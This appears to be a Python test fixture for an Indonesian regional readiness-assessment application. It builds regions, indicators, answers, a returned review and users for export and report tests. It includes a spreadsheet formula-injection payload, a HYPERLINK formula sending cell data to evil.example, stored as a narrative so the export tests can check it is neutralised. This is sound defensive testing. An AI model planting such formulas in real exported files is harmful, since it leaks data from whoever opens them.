"""A small province with answers in every state, shared by the export and report tests."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime

from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from siaga.models import (
    AgencyType,
    CategoryThreshold,
    Period,
    PeriodState,
    Review,
    ReviewDecision,
    Role,
    Submission,
    User,
)
from siaga.scoring.reference import (
    AnswerDef,
    DimensionDef,
    FrameworkDef,
    IndicatorDef,
    Level,
    RegionDef,
)
from tests.fixtures.factories import create_fake_evidence, create_user
from tests.scoring.builders import Written, write_answers, write_world

ALL: frozenset[Level] = frozenset({"province", "regency", "city"})
FRAMEWORK = FrameworkDef(
    dimensions=(DimensionDef("D1", 1.0), DimensionDef("D2", 1.0)),
    indicators=(
        IndicatorDef("L.01", "D1", "level", 1.0, ALL, "kesbangpol"),
        IndicatorDef("Y.01", "D1", "yes_no", 1.0, ALL, "kesbangpol"),
        IndicatorDef("P.01", "D2", "percent", 1.0, ALL, "bpkad"),
        IndicatorDef("C.01", "D2", "count", 1.0, ALL, "kesbangpol", target=4.0),
    ),
)
REGIONS_DEF: list[tuple[str, Level, str]] = [
    ("64", "province", "Kalimantan Timur"),
    ("64.11", "regency", "Kabupaten Paser"),
    ("64.72", "city", "Kota Samarinda"),
    ("63", "province", "Kalimantan Selatan"),
    ("63.71", "city", "Kota Banjarmasin"),
]
LABELS = {
    "siap": "Siap",
    "cukup_siap": "Cukup Siap",
    "kurang_siap": "Kurang Siap",
    "belum_siap": "Belum Siap",
}
TYPE_NAMES = {
    "exp_kesbangpol": "Badan Kesatuan Bangsa dan Politik",
    "exp_bpkad": "Badan Pengelolaan Keuangan dan Aset Daerah",
}
INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
RETURN_REASON = "-Bukti belum diunggah"
Q4 = [
    AnswerDef("64", "L.01", "verified", 4.0, True),
    AnswerDef("64", "Y.01", "verified", 1.0, True),
    AnswerDef("64", "P.01", "verified", 90.0, True),
    AnswerDef("64", "C.01", "verified", 4.0, True),
    AnswerDef("64.11", "L.01", "verified", 2.0, True),
    AnswerDef("64.11", "Y.01", "draft", 0.0),
    AnswerDef("64.11", "C.01", "returned", 1.0, True, late=True),
    AnswerDef("64.72", "L.01", "verified", 3.0, True),
    AnswerDef("64.72", "Y.01", "verified", 1.0, True),
    AnswerDef("64.72", "P.01", "submitted", 50.0, True, late=True),
    AnswerDef("64.72", "C.01", "verified", 2.0, True),
    AnswerDef("63.71", "L.01", "verified", 1.0, True),
]
Q3 = [
    AnswerDef("64.72", "L.01", "verified", 1.0, True),
    AnswerDef("64", "L.01", "verified", 4.0, True),
]


@dataclass
class World:
    written: Written
    previous: Period
    viewer: User
    operator: User
    viewer_6472: User


async def _answer(session: AsyncSession, w: Written, period: Period, region: str, ind: str) -> int:
    answer_id = await session.scalar(
        select(Submission.id).where(
            Submission.period_id == period.id,
            Submission.region_id == w.regions[region].id,
            Submission.indicator_id == w.indicators[ind].id,
        )
    )
    assert answer_id is not None
    return answer_id


async def build_world(session: AsyncSession) -> World:
    regions = [RegionDef(code, level) for code, level, _name in REGIONS_DEF]
    written = await write_world(session, FRAMEWORK, regions, Q4, framework_code="EXP")
    for code, _level, name in REGIONS_DEF:
        written.regions[code].name = name
    # Readable labels and office names, as a real framework has them.
    for threshold in await session.scalars(
        select(CategoryThreshold).where(CategoryThreshold.framework_id == written.framework.id)
    ):
        threshold.label = LABELS[threshold.category]
    for agency_type in await session.scalars(
        select(AgencyType).where(AgencyType.code.in_(["exp_kesbangpol", "exp_bpkad"]))
    ):
        agency_type.name = TYPE_NAMES[agency_type.code]
    for agency in written.agencies.values():
        kind = "Kesbangpol" if agency.code.endswith("kesbangpol") else "BPKAD"
        region_name = next(n for c, _l, n in REGIONS_DEF if agency.code.startswith(c + ".exp"))
        agency.name = f"{kind} {region_name}"
    previous = Period(
        code="2023-Q3",
        name="Triwulan III 2023",
        framework_id=written.framework.id,
        start_date=date(2023, 7, 1),
        end_date=date(2023, 9, 30),
        deadline=date(2023, 10, 10),
        state=PeriodState.CLOSED,
    )
    session.add(previous)
    written.period.name = "Triwulan IV 2023"
    await session.flush()
    await write_answers(session, previous, written.regions, written.indicators, Q3)

    period = written.period
    # Answers name the office responsible when they were made (the API sets it).
    types = {i.id: i.agency_type_id for i in written.indicators.values()}
    agencies = {(a.region_id, a.agency_type_id): a.id for a in written.agencies.values()}
    for answer in await session.scalars(select(Submission)):
        answer.agency_id = agencies.get((answer.region_id, types[answer.indicator_id]))
    await session.flush()
    # A narrative that a spreadsheet would run, a return with a reason, two evidence files.
    injected = await session.get(
        Submission, await _answer(session, written, period, "64.72", "P.01")
    )
    assert injected is not None
    injected.narrative = INJECTION
    injected.submitted_at = datetime(2023, 11, 2, 9, 30, tzinfo=UTC)
    returned_id = await _answer(session, written, period, "64.11", "C.01")
    session.add(
        Review(
            submission_id=returned_id,
            version=1,
            decision=ReviewDecision.RETURNED,
            reason=RETURN_REASON,
        )
    )
    await session.flush()
    evidenced = await _answer(session, written, period, "64.72", "L.01")
    await create_fake_evidence(session, evidenced, files=2, sha256="e" * 64)
    province = written.regions["64"]
    return World(
        written=written,
        previous=previous,
        viewer=await create_user(session, role=Role.VIEWER, region=province),
        operator=await create_user(
            session,
            role=Role.OPERATOR,
            region=written.regions["64.72"],
            agency=written.agencies[("64.72", "exp_kesbangpol")],
        ),
        viewer_6472=await create_user(session, role=Role.VIEWER, region=written.regions["64.72"]),
    )
